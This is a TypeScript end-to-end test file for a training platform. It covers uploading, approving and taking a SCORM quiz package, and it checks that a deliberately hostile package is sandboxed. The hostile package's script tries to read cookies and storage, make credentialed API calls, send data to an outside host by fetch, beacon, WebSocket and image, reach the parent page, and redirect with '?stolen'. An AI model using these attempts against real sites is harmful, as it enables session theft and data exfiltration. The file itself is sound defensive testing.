import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser, Frame, Page } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { type Started, start } from '../../packages/server/src/main.ts';
import { readConfig } from '../../packages/server/src/platform/config/config.ts';
import { launchBrowser, openWatched, type Watched } from '../support/browser.ts';
import { makeDataFolder } from '../support/program.ts';
import { type Files, manifest12, packageOf, quiz } from '../support/scorm.ts';
import { axeFindings, overflow, settled, strayWords } from './look-over.ts';
import { type Person, signUp } from './people.ts';
import { sayIn } from './words.ts';

const zh = sayIn.zh;
const { data, remove } = makeDataFolder();
let program: Started;
let browser: Browser;
const people: { officer?: Person; counsel?: Person; member?: Person } = {};

beforeAll(async () => {
  const config = { ...readConfig({ SALLYPORT_DATA: data, LOG_LEVEL: 'error' }), port: 0 };
  const demo = new URL('../../packages/cli/demo', import.meta.url).pathname;
  [program, browser] = await Promise.all([start({ config, demo }), launchBrowser()]);
}, 300_000);
afterAll(async () => {
  await browser.close();
  await program.stop();
  remove();
});

const as = (person: Person | undefined): Promise<Watched> => {
  if (person === undefined) throw new Error('nobody signed up before');
  return openWatched(browser, { address: program.address, language: 'zh', session: person.session });
};
const button = (page: Page, name: string) => page.getByRole('button', { name, exact: true }).click();
const linkOf = (role: string): string =>
  `${program.address}/enter#${program.links.find((link) => link.role === role)?.token ?? ''}`;

async function signedUp(role: string, staff: boolean): Promise<Person> {
  const { page, context } = await openWatched(browser, { address: program.address, language: 'zh' });
  const person = await signUp(page, linkOf(role), role, staff);
  await context.close();
  return person;
}

async function looksWell(page: Page): Promise<void> {
  await settled(page);
  expect(await axeFindings(page)).toEqual([]);
  expect(await strayWords(page, 'zh')).toEqual([]);
  await page.setViewportSize({ width: 360, height: 900 });
  expect(await overflow(page)).toBe(0);
  await page.setViewportSize({ width: 1280, height: 900 });
}

/** Somebody of the staff without a link of the first start: invited by the administrator, given a role by the officer, seen face to face. */
async function invited(administrator: Person, officer: Person): Promise<Person> {
  const through = async (person: Person, path: string, input: object): Promise<Record<string, unknown>> => {
    const { page, context } = await as(person);
    await page.goto('/mine');
    const headers = { 'content-type': 'application/json', 'idempotency-key': crypto.randomUUID() };
    const request = JSON.stringify({ method: 'POST', headers, body: JSON.stringify(input) });
    const answer = await page.evaluate<Record<string, unknown>>(
      `fetch('/api/${path}', ${request}).then((response) => response.json())`,
    );
    await context.close();
    if ('code' in answer) throw new Error(JSON.stringify(answer));
    return answer;
  };
  const account = { login: 'counsel', name: '法务甲', person: null, roles: [] };
  const opened = await through(administrator, 'identity/invite', account);
  await through(officer, 'identity/grant-role', { account: opened['account'], role: 'counsel', unit: null });
  const { page, context } = await openWatched(browser, { address: program.address, language: 'zh' });
  const person = await signUp(
    page,
    `${program.address}/enter#${String(opened['token'])}`,
    'counsel',
    true,
    async (code) => {
      const seen = await as(officer);
      await seen.page.goto('/acts');
      await seen.page.getByLabel(zh['acts.check']).fill(code);
      await seen.page.getByRole('button', { name: zh['acts.confirm'] }).click();
      await seen.page.getByText(zh['acts.confirmed']).waitFor();
      await seen.context.close();
    },
  );
  await context.close();
  return person;
}

/** Brings a package and leaves the page of it open. */
async function bring(page: Page, name: string, files: Files): Promise<void> {
  await page.goto('/education/packages');
  await button(page, zh['education.bringPackage']);
  const [chooser] = await Promise.all([
    page.waitForEvent('filechooser'),
    page.getByRole('button', { name: zh['education.packageFile'] }).click(),
  ]);
  await chooser.setFiles({ name: `${name}.zip`, mimeType: 'application/zip', buffer: packageOf(files) });
  await page.getByLabel(zh['education.packageTitle']).fill(name);
  await page.locator('form').getByRole('button', { name: zh['education.bringPackage'] }).click();
  await page.getByRole('heading', { level: 1, name }).waitFor();
}

const inPackage = (page: Page): Frame => {
  const frame = page.frames().find((each) => each.parentFrame() !== null);
  if (frame === undefined) throw new Error('no package is open');
  return frame;
};

test('an officer brings a package, another goes through it and agrees', async () => {
  const administrator = await signedUp('administrator', true);
  people.officer = await signedUp('security-officer', true);
  people.counsel = await invited(administrator, people.officer);
  const { page, context, faults } = await as(people.officer);
  await page.goto('/education/coverage');
  await page.getByRole('link', { name: zh['education.packages'] }).click();
  await page.getByText(zh['education.noPackagesNote']).waitFor();
  await looksWell(page);
  await button(page, zh['education.bringPackage']);
  await page.getByText(zh['education.packageFileNote']).waitFor();
  await looksWell(page);
  await bring(page, '保密测验', quiz);
  await looksWell(page);
  await page.getByLabel(zh['acts.reason']).fill('年度培训使用');
  await button(page, zh['education.proposePackageSend']);
  await page.getByText(zh['education.packageWaitsNote']).waitFor();
  expect(faults()).toEqual([]);
  await context.close();

  const second = await as(people.counsel);
  await second.page.goto('/acts');
  await second.page.getByText('保密测验').first().waitFor();
  await looksWell(second.page);
  await second.page.getByRole('link', { name: zh['education.tryPackage'] }).click();
  await second.page.frameLocator('iframe').getByRole('button', { name: '如实报告' }).click();
  await second.page.getByText(zh['education.packageWouldSay'].replace('{word}', zh['education.verb.passed'])).waitFor();
  await second.page.goto('/acts');
  await second.page.getByRole('button', { name: zh['acts.confirm'] }).click();
  await second.page.getByText(zh['acts.confirmed']).waitFor();
  expect(second.faults()).toEqual([]);
  await second.context.close();
}, 240_000);

test('a learner plays it, fails, plays it again, passes, and the duty is met', async () => {
  people.member = await signedUp('member', false);
  const { page, context, faults } = await as(people.member);
  await page.goto('/education');
  const packages = page.getByRole('region', { name: zh['education.ownPackages'] });
  await packages.getByRole('link', { name: '保密测验' }).waitFor();
  const owed = page.getByRole('region', { name: zh['education.owed'] });
  expect(await owed.locator('.row').count()).toBeGreaterThan(0);
  const before = await owed.locator('.row').count();
  await looksWell(page);
  await packages.getByRole('link', { name: '保密测验' }).click();
  await button(page, zh['education.packageBegin']);
  const course = page.frameLocator('iframe');
  await course.getByText('第1页').waitFor();
  await page.getByText(zh['education.packageSaid.attempted']).waitFor();
  await looksWell(page);

  // Left and come back to, it goes on where it was.
  await page.goto('/education');
  await packages.getByRole('link', { name: '保密测验' }).click();
  await button(page, zh['education.goOn']);
  await course.getByText('第2页').waitFor();
  await course.getByRole('button', { name: '先不报告' }).click();
  await page.getByText(`${zh['education.packageSaid.failed']} ${zh['education.packageOver']}`).waitFor();

  await page.goto('/education');
  await packages.getByText(zh['education.verb.failed']).waitFor();
  expect(await owed.locator('.row').count()).toBe(before);
  await packages.getByRole('link', { name: '保密测验' }).click();
  await button(page, zh['education.packageBegin']);
  await course.getByText('第1页').waitFor();
  await course.getByRole('button', { name: '如实报告' }).click();
  await page.getByText(zh['education.packageCounted']).waitFor();
  await page.goto('/education');
  await packages.getByText(/已经完成/).waitFor();
  expect(await owed.locator('.row').count()).toBeLessThan(before);
  expect(faults()).toEqual([]);
  await context.close();
}, 180_000);

/** Everything a package could try against the page around it, the session, and whoever learns; each attempt says what came of it. */
const hostile = (elsewhere: string): Files => ({
  'imsmanifest.xml': manifest12(),
  'index.html': `<!doctype html><html><head><title>x</title></head><body><pre id="log"></pre><script>
var tried = {};
function attempt(name, act) {
  var done = function (what) { tried[name] = String(what); document.getElementById('log').textContent = JSON.stringify(tried); };
  try { var result = act(); if (result && result.then) result.then(function (r) { done('got ' + r); }, function (e) { done('stopped'); }); else done(result === undefined ? 'stopped' : 'got ' + result); }
  catch (e) { done('stopped'); }
}
var at = location.href.replace(/\\/packages\\/.*/, '');
attempt('origin', function () { return origin === 'null' ? undefined : origin; });
attempt('cookie', function () { return document.cookie; });
attempt('setCookie', function () { document.cookie = 'a=b'; return 'set'; });
attempt('localStorage', function () { return localStorage.length; });
attempt('indexedDB', function () { return indexedDB.open('x') && 'opened'; });
attempt('api', function () { return fetch(at + '/api/identity/me', { credentials: 'include' }).then(function (r) { return r.status; }); });
attempt('apiPlain', function () { return fetch(at + '/api/identity/me').then(function (r) { return r.status; }); });
attempt('apiWrite', function () { return fetch(at + '/api/education/save', { method: 'POST', mode: 'no-cors', body: '{}' }).then(function (r) { return r.type; }); });
attempt('elsewhere', function () { return fetch('${elsewhere}/x').then(function (r) { return r.status; }); });
attempt('beacon', function () { navigator.sendBeacon('${elsewhere}/x', 'a'); });
attempt('socket', function () { return new Promise(function (ok, no) { var s = new WebSocket('${elsewhere}'.replace('http', 'ws')); s.onopen = ok; s.onerror = no; }); });
attempt('picture', function () { return new Promise(function (ok, no) { var i = new Image(); i.onload = ok; i.onerror = no; i.src = '${elsewhere}/x.png'; }); });
attempt('script', function () { return new Promise(function (ok, no) { var s = document.createElement('script'); s.onload = ok; s.onerror = no; s.src = at + '/api/openapi.json'; document.head.append(s); }); });
attempt('topDocument', function () { return top.document.title; });
attempt('topMove', function () { top.location.href = at + '/learn'; });
attempt('popup', function () { return open(at + '/learn') || undefined; });
attempt('above', function () { return parent.document; });
attempt('serviceWorker', function () { return navigator.serviceWorker.register('sw.js').then(function () { return 'registered'; }); });
attempt('worker', function () { return new Promise(function (ok, no) { var w = new Worker(at + '/api/openapi.json'); w.onerror = no; w.onmessage = ok; }); });
attempt('form', function () { var f = document.createElement('form'); f.action = at + '/api/identity/me'; f.target = '_top'; document.body.append(f); f.submit(); });
top.postMessage({ sallyport: 'another-run', told: { verb: 'passed', location: '', suspendData: '', ended: true, asked: true } }, '*');
</script></body></html>`,
  'sw.js': 'self.addEventListener("fetch", function () {});',
  'leave.html': `<!doctype html><html><body><script>location.href = '${elsewhere}/?stolen';</script></body></html>`,
  'frame.html': `<!doctype html><html><body><iframe src="/api/openapi.json"></iframe><iframe src="/"></iframe></body></html>`,
});

test('a hostile package reaches no session, no page around it, no other host', async () => {
  const { page, context } = await as(people.officer);
  const hits: string[] = [];
  const other = createServer((request, response) => {
    hits.push(request.url ?? '');
    response.setHeader('access-control-allow-origin', '*').end('taken');
  });
  other.on('upgrade', (request, socket) => {
    hits.push(request.url ?? '');
    socket.destroy();
  });
  await new Promise<void>((ready) => other.listen(0, '127.0.0.1', ready));
  await bring(page, '恶意课件', hostile(`http://127.0.0.1:${(other.address() as AddressInfo).port}`));
  await page.getByRole('link', { name: zh['education.tryPackage'] }).click();
  const log = page.frameLocator('iframe').locator('#log');
  const tried = async (): Promise<Record<string, string>> =>
    JSON.parse((await log.textContent()) || '{}') as Record<string, string>;
  await expect.poll(async () => Object.keys(await tried()).length, { timeout: 30_000 }).toBe(20);
  const results = await tried();
  expect(Object.entries(results).filter(([, result]) => result !== 'stopped')).toEqual([]);
  // Nothing of it became of the page around it.
  expect(page.url()).toMatch(/\/try$/);
  await page.getByText(zh['education.packageWouldSay'].replace('{word}', zh['education.verb.attempted'])).waitFor();

  // Leading its own frame elsewhere is refused by the page around it, and ours let themselves be framed by nobody.
  const base = inPackage(page)
    .url()
    .replace(/index\.html$/, '');
  await page.evaluate(`document.querySelector('iframe').src = ${JSON.stringify(`${base}leave.html`)}`);
  await expect
    .poll(() => page.frames().some((frame) => frame.url().startsWith('chrome-error:')), { timeout: 15_000 })
    .toBe(true);
  await page.evaluate(`document.querySelector('iframe').src = ${JSON.stringify(`${base}frame.html`)}`);
  await expect
    .poll(() => page.frames().filter((frame) => frame.parentFrame()?.url().endsWith('frame.html')).length)
    .toBe(2);
  await settled(page);
  const within = page.frames().filter((frame) => frame.parentFrame()?.url().endsWith('frame.html'));
  expect(within.filter((frame) => frame.url().startsWith(program.address))).toEqual([]);

  // The address opens the files of the package alone, in a box even where it is opened by itself.
  const alone = await context.newPage();
  await alone.goto(`${base}frame.html`);
  expect(await alone.evaluate('origin')).toBe('null');
  expect(hits).toEqual([]);
  other.close();
  await context.close();
}, 180_000);
